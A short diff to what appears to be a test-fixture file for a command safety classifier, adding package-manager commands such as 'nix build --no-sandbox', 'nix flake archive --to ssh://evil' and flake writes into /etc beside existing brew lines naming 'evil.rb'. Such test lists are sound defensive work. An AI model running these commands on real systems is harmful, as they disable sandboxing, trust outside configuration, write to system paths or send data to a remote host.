@@ -98,6 +98,13 @@ export const rows: FamilyRows = {
   ],
   brief: ["sudo dnf check-update", "sudo zypper lu"],
   explicit: [
+    "dnf install --assumeno --assumeyes x",
+    "dnf -y install x --assumeno",
+    "nix build --no-sandbox",
+    "nix build --accept-flake-config",
+    "nix flake archive --to ssh://evil",
+    "nix flake new /etc/x",
+    "nix flake clone x --dest /etc/y",
     "brew info ./evil.rb",
     "brew cat evil.rb",
     "brew deps /tmp/evil",
